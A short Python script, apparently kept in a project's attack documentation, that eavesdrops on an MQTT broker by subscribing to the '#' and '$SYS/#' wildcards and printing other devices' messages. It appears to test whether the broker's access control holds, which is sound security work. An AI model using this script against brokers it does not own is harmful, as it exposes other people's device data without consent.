"""Attack: subscribe to everything and listen to what all the others say.

    python docs/attacks/eavesdrop.py --port 1884
    python docs/attacks/eavesdrop.py --port 1883 --username d... --password ...

Prints what it heard on topics that are not its own; exit code 0 if there was anything.
"""

import argparse
import sys
import time

from paho.mqtt.client import Client, MQTTMessage
from paho.mqtt.enums import CallbackAPIVersion


def subscribe(client: Client, *_what: object) -> None:
    """Ask for everything, and for what the broker says of itself."""
    client.subscribe([("#", 1), ("$SYS/#", 1)])


def main() -> int:
    """Listen for a while; returns the exit code."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=1884)
    parser.add_argument("--username", help="the attacker's own device")
    parser.add_argument("--password")
    parser.add_argument("--own", default="-", help="the attacker's own topics begin with this")
    parser.add_argument("--seconds", type=float, default=10)
    options = parser.parse_args()
    heard = []

    def on_message(_client: Client, _data: object, message: MQTTMessage) -> None:
        if not message.topic.startswith(options.own):
            heard.append(message.topic)
            print(message.topic, message.payload, flush=True)

    client = Client(CallbackAPIVersion.VERSION2)
    if options.username:
        client.username_pw_set(options.username, options.password)
    client.on_connect = subscribe
    client.on_subscribe = lambda *_: print("listening", file=sys.stderr, flush=True)
    client.on_message = on_message
    client.connect(options.host, options.port)
    client.loop_start()
    time.sleep(options.seconds)
    client.disconnect()
    client.loop_stop()
    return 0 if heard else 1


sys.exit(main())
